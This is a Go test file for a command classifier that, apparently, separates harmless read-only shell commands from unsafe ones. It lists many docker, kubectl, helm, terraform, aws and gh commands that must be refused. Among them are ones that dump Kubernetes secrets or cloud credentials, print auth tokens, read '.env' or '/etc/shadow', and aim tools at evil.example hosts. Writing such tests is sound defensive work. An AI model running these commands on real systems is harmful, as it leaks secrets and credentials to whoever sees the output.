package program_test

import "testing"

// refuses checks that none of the commands, which look like reading ones, is taken as harmless.
func refuses(t *testing.T, commands ...string) {
	t.Helper()
	checks(t, nil, commands)
}

func TestHostileDocker(t *testing.T) {
	refuses(t,
		"docker -Htcp://h ps", "docker -DH tcp://h ps", "docker --host unix:///x.sock images", "docker --config=/tmp/c ps", "docker -c other version", "docker --tls ps", "docker -D --context x logs y",
		"docker ls", "docker list", "docker volume ps", "docker network show x", "docker context ps", "docker pod ps", "docker machine ls", "docker node logs x", "docker stack inspect x",
		"docker save -ox y", "docker save --output x y", "docker image save -o=x y", "docker export -of web", "docker container export --output=f web",
		"docker logs -fno web x", "docker diff -a x", "docker port x -a", "docker stats --no-reset", "docker ps --sync", "docker ps --pod", "docker images -n 1 x y",
		"docker inspect -l", "docker inspect --help=false x", "docker history x --sort y", "docker info --debug=x y", "docker version --type x", "docker events x",
		"docker container prune", "docker image prune -af", "docker checkpoint ls x", "docker plugin inspect x", "docker plugin ls", "docker swarm unlock-key", "docker swarm join-token worker", "docker buildx ls --x",
		"docker buildx inspect --bootstrap", "docker stack config -c a.yml", "docker trust inspect x", "docker search x", "docker context export x -", "docker config create a b", "docker service update x",
		"docker compose -c x ps", "docker compose --context x ps", "docker compose -f oci://h/x ps", "docker compose -f https://h/x.git config -q", "docker compose --project-directory https://h/x ps",
		"docker compose config", "docker compose config --format json", "docker compose config -qo f", "docker compose config -q --output=f", "docker compose config --variables", "docker compose convert",
		"docker compose ps --dry-run", "docker compose ls x", "docker-compose -Hx ps", "docker-compose --host=x ps", "docker-compose --tls ps", "docker-compose -cx images", "podman-compose ps",
	)
}

func TestHostilePodman(t *testing.T) {
	refuses(t,
		"podman -r ps", "podman -c x images", "podman --url ssh://h ps", "podman --root d ps", "podman --hooks-dir=d version", "podman --conmon ./x info", "podman -D ps", "podman logs -n -o x", "podman images -n -o x",
		"podman top web -eo pid", "podman top web aux", "podman pod top p pid", "podman ps --sync", "podman save -qox y", "podman image mount x", "podman container mount x", "podman secret inspect --showsecret x",
		"podman image trust show", "podman generate systemd --files x", "podman generate kube -f x y", "podman healthcheck run x", "podman system connection list", "podman machine ssh", "podman volume export x",
		"nerdctl -H x ps", "nerdctl -a x ps", "nerdctl --address=x ps", "nerdctl --cni-path=d ps", "nerdctl top x", "nerdctl compose config", "nerdctl image convert a b", "nerdctl events",
	)
}

func TestHostileKubectl(t *testing.T) {
	refuses(t,
		"kubectl --kubeconfig=./c get po", "kubectl get po --kubeconfig ./c", "kubectl --server https://h get po", "kubectl -sh get po", "kubectl get po -sh", "kubectl get pods --kuberc=x", "kubectl --cache-dir /x version",
		"kubectl get pods --profile cpu", "kubectl --profile=mutex get pods", "kubectl get pods --profile-output=f", "kubectl version --profile-output f", "kubectl get --help=false -k d", "kubectl -h=false get -k d",
		"kubectl get secrets -v=9", "kubectl describe secret x -v9", "kubectl --v 10 describe secret x", "kubectl describe secret x --v=08", "kubectl describe secret x --vmodule=*=9",
		"kubectl get secret -oyaml", "kubectl get -o yaml SECRETS", "kubectl get secrets.v1 -o json", "kubectl get cm,secret -o=json", "kubectl get cm/a secret/b -oyaml", "kubectl get cm/a \"s$x\" -oyaml",
		"kubectl get secret x -o=custom-columns=D:.data", "kubectl get secret x -o go-template='{{.data}}'", "kubectl get secret x --output jsonpath={.data}", "kubectl get secret x --template={{.data}}",
		"kubectl get -f a.yaml -o yaml", "kubectl get \"$x\" -ojson", "kubectl get po -o \"$x\" secret", "kubectl wait --for=create secret/x -ojson", "kubectl get po -ARk d", "kubectl get po -wk d",
		"kubectl get --raw /api/v1/namespaces/x/secrets/y", "kubectl get --raw=/api/v1/%73ecrets", "kubectl get --raw /api/v1/nodes/n/proxy/run/a/b/c?cmd=ls", "kubectl get --raw /api/v1/namespaces/a/pods/b/exec?command=ls",
		"kubectl get --raw /api/v1/namespaces/a/pods/b:80/PROXY/x", "kubectl config view --raw", "kubectl config view --flatten", "kubectl config view --minify --raw=true", "kubectl cluster-info dump", "kubectl events x",
		"kubectl krew list", "kubectl ctx", "kubectl neat", "kubectl plugin x", "kubectl diff -f a", "kubectl kustomize https://h/x", "kubectl proxy", "kubectl debug x", "kubectl create token x", "kubectl auth reconcile -f a",
		"kubectl rollout history deploy/x -k d", "kubectl rollout status -f https://h/x", "kubectl top pods a b", "oc whoami --show-token", "oc rsh x", "oc extract secret/x", "oc get secret x -o yaml", "oc login", "kubecolor get secret x -oyaml",
		"minikube profile x", "minikube status --log_file f", "kind export logs", "kind get kubeconfig", "kustomize build .", "skaffold version", "tilt version", "helmfile list", "argocd app get x", "flux get all", "crictl ps", "k9s", "stern x",
	)
}

func TestHostileHelm(t *testing.T) {
	refuses(t,
		"helm --kubeconfig=x ls", "helm ls --kube-apiserver=h", "helm status x -o json", "helm status -oyaml x", "helm status x --output=json", "helm status x --debug", "helm get values x", "helm get all x", "helm get manifest x",
		"helm get hooks x", "helm show values repo/x", "helm show all oci://h/x", "helm show chart https://h/x.tgz", "helm show values ./c --repo https://h", "helm show chart a/b.tgz", "helm inspect values a/b",
		"helm template x repo/y", "helm template ./c -f https://h/v", "helm template ./c -fhttps://h/v", "helm template ./c -f a.yaml,https://h/v", "helm template ./c --values=s3:b/v", "helm template ./c --set-file a=https://h/x",
		"helm template ./c --post-renderer=./x", "helm template ./c --post-renderer ./x", "helm template ./c --output-dir=d", "helm template ./c --validate", "helm template ./c --dry-run=server", "helm template ./c --dependency-update",
		"helm template ./c --enable-dns", "helm lint ./c -f \"$x\"", "helm lint ./c --set-file a=x:y", "helm dep up ./c", "helm dependency build ./c", "helm repo index .", "helm repo update", "helm plugin update x", "helm search hub x",
		"helm secrets view x", "helm diff upgrade a b", "helm env a b", "helm --version", "helm -n x", "helm list $x",
	)
}

func TestHostileTerraform(t *testing.T) {
	refuses(t,
		"terraform fmt -write false", "terraform fmt -list -write true x", "terraform fmt -write=0", "terraform fmt -check=false", "terraform fmt -check -write", "terraform fmt -check -write=true", "terraform fmt -write=false -write=true", "tofu fmt .",
		"terraform output -json", "terraform output --json", "terraform output -json=true", "terraform output x", "terraform output -raw x", "terraform -chdir=d output x", "tofu output -show-sensitive", "tofu show -show-sensitive",
		"terraform show -json", "terraform show -json p", "terraform state pull", "terraform state show -json a", "terraform state rm a", "terraform providers schema -json", "terraform providers mirror d", "terraform providers lock",
		"terraform workspace new x", "terraform console", "terraform graph -plan=p x", "terraform validate d", "terraform validate -var x=y", "terraform plan -refresh-only", "terraform plan -generate-config-out=f", "terraform query",
		"terraform -chdir d apply", "terraform test", "terraform login", "terraform metadata functions x", "terraform version -json x", "terraform \"$x\"", "terraform -chdir=\"$d\" apply",
		"packer fmt -write false x", "packer fmt -check -write=true x", "packer validate x", "packer inspect x", "packer plugins installed", "packer console", "vagrant global-status", "vagrant version", "vagrant -h",
	)
}

func TestHostileAWS(t *testing.T) {
	refuses(t,
		"aws s3 ls --endpoint-url http://h", "aws s3 ls --endp HTTP://h", "aws s3 ls --endpoint=HTTP://h", "aws --endp http://h s3 ls", "aws s3 ls --e HTTP://h", "aws ssm get-parameter --name x --with-dec",
		"aws ssm get-parameters-by-path --path / --with-decryption", "aws ssm get-parameter --cli-input-json '{\"Name\":\"x\",\"WithDecryption\":true}'", "aws ssm get-parameter --cli-input-yaml file://f", "aws ec2 describe-instances --debug",
		"aws --debug ec2 describe-instances", "aws ec2 describe-instances --cli-auto", "aws ec2 describe-instances --no-paginate \"$x\"", "aws s3 ls --recursive \"$x\"", "aws ec2 describe-instances --filters=https://h/x",
		"aws ec2 describe-instances --filters HTTPS://h/x", "aws cloudfront get-function --name x f", "aws s3api get-object --bucket b --key k f", "aws apigateway get-export x", "aws gamelift get-game-session-log --save-as f",
		"aws cognito-idp describe-user-pool-client --client-id x", "aws ec2 describe-vpn-connections", "aws glue get-connections", "aws appsync list-api-keys", "aws location describe-key", "aws iotwireless get-wireless-device",
		"aws directconnect describe-virtual-interfaces", "aws ec2 describe-instance-attribute --attribute userData", "aws ec2 get-launch-template-data", "aws ec2 get-password-data", "aws emr describe-cluster", "aws emr get --src f",
		"aws ecr get-login", "aws ecr-public get-login-password", "aws eks get-token", "aws eks update-kubeconfig --name x", "aws sts assume-role", "aws sts get-federation-token", "aws secretsmanager get-secret-value",
		"aws secretsmanager batch-get-secret-value", "aws configure", "aws configure get aws_secret_access_key", "aws configure export-credentials", "aws configure set region x", "aws configure import --csv file://f", "aws s3 cp s3://a .",
		"aws s3 presign s3://a/b", "aws s3 mv a b", "aws lambda invoke o", "aws sqs receive-message", "aws kms decrypt", "aws rds generate-db-auth-token", "aws codecommit credential-helper get", "aws logs get-log-object x", "aws iam create-user",
		"aws \"$x\" list-a", "aws s3api \"list-$x\"", "aws --profile \"$p\" $x", "aws --ca-bundle f --endpoint-url=http://h s3 ls",
	)
}

func TestHostileForges(t *testing.T) {
	refuses(t,
		"gh pr list -R evil.example/a/b", "gh pr list --repo=https://evil.example/a/b", "gh pr list -R git@evil.example:a/b", "gh -R x pr list", "gh pr -R evil.example/a/b list", "gh pr view https://evil.example/a/b/pull/1",
		"gh issue view https://evil.example/a/b/issues/1", "gh repo view evil.example/a/b", "gh secret list -Revil.example/a/b", "gh pr view --web", "gh pr view -cw", "gh pr view --web=true", "gh issue list -w", "gh browse", "gh pr checkout 1",
		"gh run view 1 -w", "gh run download 1", "gh release download", "gh repo clone a/b", "gh gist view 1 -w", "gh gist clone 1", "gh auth token", "gh auth status -t", "gh auth status --show-token", "gh auth setup-git", "gh config set pager x",
		"gh config get oauth_token", "gh alias list", "gh extension list", "gh dash", "gh copilot explain x", "gh codespace list", "gh api -X DELETE a", "gh api a -XPUT", "gh api a --method=PATCH", "gh api a -f x=y", "gh api a -Fx=@f",
		"gh api a --input f", "gh api a --input=-", "gh api https://evil.example/a", "gh api --hostname evil.example user", "gh api graphql -f query='mutation{x}'", "gh api graphql -F query=@f", "gh api a -H 'X-HTTP-Method-Override: PUT'",
		"gh api a b", "gh api \"$x\"", "gh api -X \"$m\" a", "gh api user --cache 1h", "gh secret set X", "gh variable set X", "gh workflow run x", "gh search repos x --web", "gh pr list --help=false -w",
		"glab mr list -R https://evil.example/a/b", "glab mr view https://evil.example/a/b/-/merge_requests/1", "glab mr list -w", "glab mr view 1 --web", "glab api x", "glab mr checkout 1", "glab variable get X", "glab auth status -t", "glab mr list -o x",
		"hg -R ssh://h/x log", "hg log -R https://h/x", "hg --cwd d --repo ssh://h id", "hg id ssh://h/x", "hg log --config ui.editor=x", "hg st --conf a=b", "hg log --debugg", "hg cat -o f a", "hg cat --outp f a", "hg branch x", "hg summary --remote",
		"hg incoming", "hg paths --config x=y", "hg diff --profile", "hg extdiff", "hg help --config a=b", "svn status -u", "svn diff -r 1", "svn diff --diff-cmd=x", "svn diff --old a --new b", "svn info -r HEAD", "svn info https://h/x", "svn log", "svn cat a",
		"svn diff --config-option a:b:c=d", "svn info --config-dir d", "svn st --config-dir=d", "jj log", "jj st", "jj diff --tool x", "jj --config a=b log",
	)
}

func TestTemplatesAreFiles(t *testing.T) {
	acts(t, []struct {
		text string
		want []string
	}{
		{"hg log -T ./.env", []string{"read ./.env", "trust ."}},
		{"hg log -T '{rev}'", []string{"trust ."}},
		{"hg --cwd a log --style b/c", []string{"trust a", "read a/b/c", "trust ."}},
		{"hg -R /tmp/x status", []string{"trust /tmp/x", "trust ."}},
		{"kubectl get po -o go-template-file=.env", []string{"read .env"}},
		{"kubectl get po -o=jsonpath-file=a", []string{"read a"}},
		{"kubectl get po -otemplatefile --template=.env", []string{"read .env"}},
		{"kubectl get -f ./a.yaml", []string{"read ./a.yaml"}},
		{"helm template ./c -f .env,b.yaml --set-file a=.env", []string{"read ./c", "read .env", "read b.yaml", "read .env"}},
		{"terraform -chdir=/etc show shadow", []string{"read /etc/shadow", "trust /etc"}},
		{"terraform -chdir=d fmt", []string{"write d"}},
		{"terraform show p", []string{"read p", "trust ."}},
	})
}
